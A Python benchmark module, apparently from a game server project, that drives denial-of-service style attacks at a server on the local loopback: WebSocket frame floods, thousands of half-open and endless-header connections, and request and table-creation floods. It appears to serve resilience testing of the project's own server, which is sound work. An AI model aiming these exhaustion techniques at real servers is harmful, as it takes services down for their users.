"""`python -m bench.attacks NAME PORT SECONDS`: the attacks of `bench.abuse`, by time.

They go to a server on this machine, and nowhere else.
"""

import asyncio
import json
import os
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import NamedTuple

ELSEWHERE = "127.0.0.2"
"""The attacker's address: the loopback has many."""
HELLO = (
    b"GET /ws HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: upgrade\r\n"
    b"sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)
PING = b"\x89\x80\0\0\0\0"
PART = b"\x00\x80\0\0\0\0"
FIRST_PART = b"\x01\x80\0\0\0\0"
TALK = b'\x81\x90\0\0\0\0{"type": "ping"}'


class Target(NamedTuple):
    """Whom to attack, and until when."""

    port: int
    end: float

    @property
    def going_on(self) -> bool:
        """Whether there is time left."""
        return asyncio.get_running_loop().time() < self.end

    async def dial(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection from elsewhere."""
        return await asyncio.open_connection("127.0.0.1", self.port, local_addr=(ELSEWHERE, 0))


async def flood(target: Target, first: bytes, frame: bytes) -> None:
    """One WebSocket that sends the same frame as fast as it can, and comes back when cut off."""
    while target.going_on:
        with suppress(OSError, asyncio.TimeoutError):
            _, writer = await target.dial()
            writer.write(HELLO + first)
            while target.going_on:
                writer.write(frame * 2_000)
                await asyncio.wait_for(writer.drain(), 1.0)


async def half_open(target: Target) -> None:
    """Connections that begin a request and never end it: 2,000 of them."""
    held: list[asyncio.StreamWriter] = []
    while target.going_on:
        with suppress(OSError):
            while len(held) < 2_000 and target.going_on:
                _, writer = await target.dial()
                writer.write(b"GET / HTTP/1.1\r\nhost: x\r\n")
                held.append(writer)
                await asyncio.sleep(0.001)
        await asyncio.sleep(0.1)


async def headers(target: Target) -> None:
    """One connection after the other whose headers never end."""
    while target.going_on:
        with suppress(OSError):
            _, writer = await target.dial()
            writer.write(b"GET / HTTP/1.1\r\nhost: x\r\nx-endless: ")
            while target.going_on:
                writer.write(b"x" * 65_536)
                await writer.drain()


async def post(target: Target, body: bytes) -> None:
    """Open a table without a cookie, over and over, on connections that are kept."""
    head = b"POST /api/tables HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
    request = head + b"content-length: %d\r\n\r\n" % len(body) + body
    while target.going_on:
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
            reader, writer = await target.dial()
            while target.going_on:
                writer.write(request)
                head_of = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
                size = int(head_of.lower().partition(b"content-length: ")[2].split()[0])
                await reader.readexactly(size)


async def tables(target: Target) -> None:
    """Eight clients open tables."""
    body = json.dumps({"game": "plus4", "name": "Eve"}).encode()
    await asyncio.gather(*(post(target, body) for _ in range(8)))


async def computers(target: Target) -> None:
    """Tables at which only computers of a high level sit."""
    seats = [{"seat": seat, "level": "hard"} for seat in (1, 2)]
    terms = {"eager": True}
    body = {"game": "puissance4", "name": "Eve", "seats": seats, "terms": terms}
    await asyncio.gather(*(post(target, json.dumps(body).encode()) for _ in range(2)))


async def requests(target: Target) -> None:
    """Sixteen clients ask for the catalogue over and over."""

    async def ask() -> None:
        while target.going_on:
            with suppress(OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
                reader, writer = await target.dial()
                while target.going_on:
                    writer.write(b"GET /api/games HTTP/1.1\r\nhost: x\r\n\r\n")
                    await asyncio.wait_for(reader.read(1 << 16), 5)

    await asyncio.gather(*(ask() for _ in range(16)))


async def handshakes(target: Target) -> None:
    """Sixteen clients open WebSockets and hang up at once."""

    async def knock() -> None:
        while target.going_on:
            with suppress(OSError):
                reader, writer = await target.dial()
                writer.write(HELLO)
                await reader.read(1000)
                writer.close()

    await asyncio.gather(*(knock() for _ in range(16)))


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    "pings": lambda target: flood(target, b"", PING),
    "fragments": lambda target: flood(target, FIRST_PART, PART),
    "messages": lambda target: flood(target, b"", TALK),
    "half-open": half_open,
    "headers": headers,
    "tables": tables,
    "computers": computers,
    "requests": requests,
    "handshakes": handshakes,
}


def main() -> None:
    """Attack as the command line says, once somebody says so; others go first at the processor."""
    name, port, seconds = sys.argv[1:]
    os.nice(10)
    print("ready", flush=True)
    sys.stdin.readline()

    async def work() -> None:
        end = asyncio.get_running_loop().time() + float(seconds)
        await ATTACKS[name](Target(int(port), end))

    asyncio.run(work())


if __name__ == "__main__":
    main()
